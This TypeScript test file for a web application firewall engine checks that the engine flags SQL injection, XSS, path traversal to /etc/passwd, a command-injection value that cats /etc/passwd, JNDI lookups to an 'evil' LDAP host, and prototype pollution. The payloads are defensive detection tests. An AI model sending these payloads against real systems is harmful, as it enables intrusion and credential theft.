// The engine on whole requests: which parts it reads (every line of a repeated header), how it
// names where a rule matched, the protocol limits and the parameter hard cap, body kinds, custom
// rules (and the length they read) and options that switch rules off.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import type { IncomingMessage } from 'node:http'
import { ClientRequest } from '../../exchange/client-request.js'
import { WafEngine, type EngineOptions } from './engine.js'
import { RULE_GROUPS } from './rule.js'
import { Scan } from './signatures.js'

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36'

function engineWith(options: Partial<EngineOptions> = {}): WafEngine {
  return new WafEngine({ groups: RULE_GROUPS, exclude: [], maxValueLength: 4096, maxParameters: 256, customMaxLength: 8192, headers: [], custom: [], ...options })
}

/** Node keeps only the first line of these in `headers` (and joins the others; cookies with `; `). */
const SINGLE_VALUE = new Set(['user-agent', 'referer', 'authorization', 'content-type', 'host'])

/**
 * A ClientRequest as the accept phase builds it: `path` is the normalized one. Headers given as
 * pairs may repeat a name: `rawHeaders` keeps every line, `headers` folds them as Node does.
 */
function request(url: string, headers: Record<string, string> | ReadonlyArray<readonly [string, string]> = {}, path?: string): ClientRequest {
  const queryAt = url.indexOf('?')
  const lines = Array.isArray(headers) ? (headers as ReadonlyArray<readonly [string, string]>) : Object.entries(headers)
  const all: ReadonlyArray<readonly [string, string]> = lines.some(([name]) => name.toLowerCase() === 'user-agent') ? lines : [['User-Agent', BROWSER], ...lines]
  const folded: Record<string, string> = {}
  for (const [name, value] of all) {
    const key = name.toLowerCase()
    const before = folded[key]
    folded[key] = before === undefined ? value : SINGLE_VALUE.has(key) ? before : `${before}${key === 'cookie' ? '; ' : ', '}${value}`
  }
  const raw = { method: 'GET', url, headers: folded, rawHeaders: all.flat(), httpVersionMajor: 1 } as unknown as IncomingMessage
  return new ClientRequest(raw, path ?? (queryAt === -1 ? url : url.slice(0, queryAt)), queryAt === -1 ? '' : url.slice(queryAt + 1), 'api.example.com')
}

function head(engine: WafEngine, req: ClientRequest, stopAt?: number): Scan {
  const scan = new Scan(stopAt)
  engine.inspectHead(req, scan)
  return scan
}

const where = (scan: Scan): string[] => scan.hits.map((hit) => `${hit.id}@${hit.where}`)

test('a typical browser request with query, cookies and referer scores 0', () => {
  const scan = head(engineWith(), request('/search?q=O%27Brien+or+Smith&page=2&sort=price+desc', {
    cookie: '_ga=GA1.2.123.456; session=eyJ1c2VyIjoiYWxpY2UifQ; prefs=%7B%22theme%22%3A%22dark%22%7D',
    referer: 'https://www.example.com/search?q=select+or+update',
    accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
  }))
  assert.equal(scan.score, 0, where(scan).join(' '))
})

test('matches are named by where they were found, never by the value', () => {
  const engine = engineWith()
  assert.deepEqual(where(head(engine, request('/items?id=1%20union%20select%201'))), ['942150@query:id'])
  assert.deepEqual(where(head(engine, request('/items?__proto__%5BisAdmin%5D=1'))), ['934100@query:__proto__[isAdmin]'])
  assert.deepEqual(where(head(engine, request('/x', { cookie: 'a=1; q="%27 or 1=1"' }))), ['942120@cookie:q', '942100@cookie:q'], 'raw `or 1=1`, then the decoded quote')
  assert.deepEqual(where(head(engine, request('/x', { 'user-agent': 'sqlmap/1.7' }))), ['913100@header:user-agent'])
  assert.deepEqual(where(head(engine, request('/x', { referer: 'https://a.example/?q=<script>x</script>' }))), ['941100@header:referer'])
  assert.deepEqual(where(head(engine, request('/x?a=%3Cscript%20src%3D%22%2F%2Fevil%22%3E'))), ['941100@query:a'])
  const longName = `${'n'.repeat(40)}<`
  assert.deepEqual(where(head(engine, request(`/x?${longName}=%3Cscript%3E`))), [`941100@query:${'n'.repeat(32)}…`])
  assert.deepEqual(where(head(engine, request('/x?a%22b=%3Cscript%3E'))), ['941100@query:a_b'])
})

test('the path is read normalized and decoded; the raw path for dot-dot segments in any encoding', () => {
  const engine = engineWith()
  assert.deepEqual(where(head(engine, request('/static/../../etc/passwd', {}, '/etc/passwd'))), ['930100@path', '930120@path'])
  assert.deepEqual(where(head(engine, request('/..;/manager/html'))), ['930100@path'])
  assert.deepEqual(where(head(engine, request('/files/%252e%252e%252fsecret'))), ['930100@path'])
  assert.deepEqual(where(head(engine, request('/users/1%20or%201=1'))), ['942120@path'])
  assert.deepEqual(where(head(engine, request('/.env'))), ['930130@path'])
  assert.equal(head(engine, request('/.well-known/openid-configuration')).score, 0)
})

test('a double-encoded payload is caught after the second decoding', () => {
  const scan = head(engineWith(), request('/items?id=%2527%2520or%25201%253D1'))
  assert.deepEqual(where(scan), ['942100@query:id', '942120@query:id'])
  assert.equal(head(engineWith(), request('/items?id=%2527')).score, 0, 'a lone double-encoded quote is not an attack')
})

test('protocol: NUL bytes, invalid escapes, long values and too many parameters', () => {
  const engine = engineWith({ maxValueLength: 10, maxParameters: 3 })
  assert.deepEqual(where(head(engine, request('/x?file=a%00b'))), ['930150@query:file', '920270@query:file'])
  assert.deepEqual(where(head(engine, request('/x?q=100%'))), ['920220@query'])
  assert.deepEqual(where(head(engine, request('/x?q=12345678901'))), ['920370@query:q'])
  assert.deepEqual(where(head(engine, request('/x?a=1&b=2&c=3&d=4'))), ['920380@query'])
  assert.equal(head(engine, request('/x?a=1&b=2&c=3')).score, 0)
})

test('past maxParameters, 920380 matches and the later fields are still read (excluded, other groups, detect, high threshold)', () => {
  const url = '/x?a=1&b=2&c=3&d=4&e=%3Cscript%3E'
  assert.deepEqual(where(head(engineWith({ maxParameters: 3 }), request(url))), ['920380@query', '941100@query:e'], 'detect: everything')
  assert.deepEqual(where(head(engineWith({ maxParameters: 3 }), request(url), 10)), ['920380@query', '941100@query:e'], 'a threshold above 5 reads on')
  assert.deepEqual(where(head(engineWith({ maxParameters: 3 }), request(url), 5)), ['920380@query'], 'block at 5: 920380 alone decides')
  assert.deepEqual(where(head(engineWith({ maxParameters: 3, exclude: [920380] }), request(url), 5)), ['941100@query:e'])
  assert.deepEqual(where(head(engineWith({ maxParameters: 3, groups: ['xss'] }), request(url), 5)), ['941100@query:e'])
  const form = new Scan(5)
  engineWith({ maxParameters: 3, exclude: [920380] }).inspectBody('a=1&b=2&c=3&d=4&cmd=127.0.0.1%3B+cat+%2Fetc%2Fpasswd', 'form', form)
  assert.deepEqual(where(form), ['930120@body:cmd', '932100@body:cmd'])
  assert.equal(form.refusal, undefined)
})

test('past 4 x maxParameters, the query or form is refused whatever the mode, groups or exclusions', () => {
  const fields = (count: number): string => Array.from({ length: count }, (_, i) => `f${i}=${i}`).join('&')
  const lenient = engineWith({ maxParameters: 3, exclude: [920380], groups: ['xss'] })
  const atCap = head(lenient, request(`/x?${fields(12)}`))
  assert.equal(atCap.refusal, undefined)
  assert.equal(atCap.score, 0)
  const past = head(lenient, request(`/x?${fields(13)}&z=%3Cscript%3E`))
  assert.equal(past.refusal, 'more than 12 query parameters (4 × maxParameters)')
  assert.ok(past.done, 'a refused scan is done, even with no score and no threshold')
  assert.equal(past.score, 0)
  const form = new Scan()
  lenient.inspectBody(fields(13), 'form', form)
  assert.equal(form.refusal, 'more than 12 form fields (4 × maxParameters)')
  assert.deepEqual(where(head(engineWith({ maxParameters: 3 }), request(`/x?${fields(13)}`))), ['920380@query'], '920380 is still recorded')
})

test('every line of an inspected header is read: Node keeps the first User-Agent, the upstream gets them all', () => {
  const engine = engineWith({ headers: ['Authorization'], custom: [{ id: 1001, where: ['header:x-debug'], pattern: '^(1|true|on)$' }] })
  const twoAgents = request('/x', [['User-Agent', BROWSER], ['User-Agent', 'sqlmap/1.7']])
  assert.equal(twoAgents.header('user-agent'), BROWSER, 'what req.headers shows')
  assert.deepEqual(where(head(engine, twoAgents)), ['913100@header:user-agent'])
  assert.deepEqual(where(head(engine, request('/x', [['user-agent', BROWSER], ['USER-AGENT', '${jndi:ldap://evil/a}']]))), ['944100@header:user-agent'], 'names in any case')
  assert.deepEqual(where(head(engine, request('/x', [['Referer', 'https://www.example.com/'], ['Referer', 'https://a.example/?q=<script>x</script>']]))), ['941100@header:referer'])
  assert.deepEqual(where(head(engine, request('/x', [['Authorization', 'Bearer abc'], ['Authorization', "Basic ' or 1=1--"]]))), ['942100@header:authorization', '942120@header:authorization'])
  assert.deepEqual(where(head(engine, request('/x', [['Cookie', 'a=1'], ['Cookie', 'b=%3Cscript%3E']]))), ['941100@cookie:b'])
  assert.deepEqual(where(head(engine, request('/x', [['X-Debug', 'off'], ['X-Debug', 'on']]))), ['1001@header:x-debug'], 'each line on its own: "off, on" would not match ^…$')
  assert.equal(head(engine, request('/x', [['User-Agent', BROWSER], ['User-Agent', 'curl/8.5.0'], ['Referer', 'https://www.example.com/']])).score, 0)
})

test('custom rules read the first customMaxLength characters of a value; built-in rules read all of it', () => {
  const engine = engineWith({ customMaxLength: 16, custom: [{ id: 2001, where: ['query', 'body'], pattern: 'evil' }] })
  assert.deepEqual(where(head(engine, request(`/x?q=${'x'.repeat(12)}evil`))), ['2001@query:q'])
  assert.deepEqual(where(head(engine, request(`/x?q=${'x'.repeat(13)}evil`))), [], '"evil" ends past the 16th character')
  assert.deepEqual(where(head(engine, request(`/x?q=${'x'.repeat(12)}%2565vil`))), ['2001@query:q'], 'the cut applies to each decoded form')
  assert.deepEqual(where(head(engine, request(`/x?q=${'x'.repeat(40)}%3Cscript%3E`))), ['941100@query:q'])
})

test('accepted custom patterns stay fast on 64 KiB of adversarial input (the length cap bounds what is left)', () => {
  // Shapes the backtracking check accepts, each with input built to make it backtrack most.
  const cases: Array<[pattern: string, unit: string]> = [
    ['.*\\.php$', 'a'],
    ['select.*from', 'select '],
    ['<script[^>]*>.*</script>', '<script>'],
    ['\\w+\\s*=\\s*\\w+;', 'a= '],
    ['.{0,30}a.{0,30}b', 'a'],
    ['.*\\d{1,3}x', '1'],
    ['^https?://[^/]+/admin', 'http://'],
    ['\\d+(\\.\\d+)?x', '1.1'],
    ['(ab)+c', 'ab'],
    ['(\\w+)\\s+\\1x', 'a '],
  ]
  let slowest = { ms: 0, what: '' }
  for (const [pattern, unit] of cases) {
    const engine = engineWith({ custom: [{ id: 3001, where: ['body'], pattern }] })
    const value = unit.repeat(Math.ceil(65536 / unit.length))
    const scan = new Scan()
    const started = performance.now()
    engine.inspectBody(value, 'text', scan)
    const ms = performance.now() - started
    if (ms > slowest.ms) slowest = { ms, what: pattern }
  }
  // Uncapped, `.*\.php$` alone takes about 1.5 s on 64 KiB; capped at 8 KiB, about 25 ms.
  assert.ok(slowest.ms < 400, `${slowest.what} took ${slowest.ms.toFixed(1)} ms`)
})

test('a blocking scan stops at its threshold; a detecting one reads everything', () => {
  const engine = engineWith()
  const attack = request('/x?a=%3Cscript%3E&b=1%20union%20select%201', { 'user-agent': 'nikto' })
  assert.deepEqual(where(head(engine, attack, 5)), ['941100@query:a'])
  assert.deepEqual(where(head(engine, attack)), ['941100@query:a', '942150@query:b', '913100@header:user-agent'])
  assert.equal(head(engine, attack).score, 15)
})

test('rules and exclude switch rules off; an unknown excluded id is an error', () => {
  const attack = request('/x?a=%3Cscript%3E&b=1%20union%20select%201', { 'user-agent': 'nikto' })
  assert.deepEqual(where(head(engineWith({ groups: ['scanners'] }), attack)), ['913100@header:user-agent'])
  assert.deepEqual(where(head(engineWith({ exclude: [941100, 913100] }), attack)), ['942150@query:b'])
  assert.throws(() => engineWith({ exclude: [999999] }), /^Error: exclude: no rule has the id 999999$/)
})

test('extra headers get the built-in rules; a header named by a custom rule gets only that rule', () => {
  const engine = engineWith({
    headers: ['X-Original-URL'],
    custom: [{ id: 1001, where: ['header:x-debug'], pattern: '^(1|true|on)$', score: 5, message: 'debug switch' }],
  })
  assert.deepEqual(where(head(engine, request('/x', { 'x-original-url': '/../../etc/passwd' }))), ['930110@header:x-original-url', '930115@header:x-original-url', '930120@header:x-original-url'])
  assert.deepEqual(where(head(engine, request('/x', { 'x-debug': 'TRUE' }))), ['1001@header:x-debug'])
  assert.equal(head(engine, request('/x', { 'x-debug': '<script>' })).score, 0, 'built-ins do not read a custom-only header')
  assert.equal(head(engineWith(), request('/x', { 'x-original-url': '/../../etc/passwd' })).score, 0, 'not read unless listed')
})

test('custom rules on path, query and body read decoded values', () => {
  const engine = engineWith({ custom: [{ id: 2001, where: ['path', 'query', 'body'], pattern: 'internal-only', score: 3 }] })
  assert.deepEqual(where(head(engine, request('/internal%2Donly/x'))), ['2001@path'])
  assert.deepEqual(where(head(engine, request('/x?to=INTERNAL-ONLY'))), ['2001@query:to'])
  const scan = new Scan()
  engine.inspectBody('{"note":"internal-only"}', 'json', scan)
  assert.deepEqual(where(scan), ['2001@body:note'])
})

test('bodies: JSON strings and keys one by one, form fields like a query, other text whole', () => {
  const engine = engineWith()
  const body = (text: string, kind: 'json' | 'form' | 'text'): string[] => {
    const scan = new Scan()
    engine.inspectBody(text, kind, scan)
    return where(scan)
  }
  assert.deepEqual(body('{"user":{"name":"O\'Brien","bio":"I select the best, or nothing"},"tags":["a","b"]}', 'json'), [])
  assert.deepEqual(body('{"user":{"name":"x\' or \'1\'=\'1"}}', 'json'), ['942100@body:name'])
  assert.deepEqual(body('{"items":[{"q":"<svg onload=alert(1)>"}]}', 'json'), ['941110@body:q', '941130@body:q', '941160@body:q'])
  assert.deepEqual(body('{"__proto__":{"isAdmin":true}}', 'json'), ['934100@body:__proto__'])
  assert.deepEqual(body('{"a":"\\u0027 or \\u0027a\\u0027=\\u0027a"}', 'json'), ['942100@body:a'], 'JSON escapes are decoded')
  assert.deepEqual(body('{"unterminated": "1 union select', 'json'), ['942150@body'], 'unparsable JSON is read as text')
  assert.deepEqual(body('name=O%27Brien&comment=Select+one+or+more', 'form'), [])
  assert.deepEqual(body('name=x&cmd=127.0.0.1%3B+cat+%2Fetc%2Fpasswd', 'form'), ['930120@body:cmd', '932100@body:cmd'])
  assert.deepEqual(body('pct=100%', 'form'), ['920220@body'])
  assert.deepEqual(body('Hello,\nplease ship my order; thanks!', 'text'), [])
  assert.deepEqual(body('${jndi:ldap://evil/a}', 'text'), ['944100@body'])
})
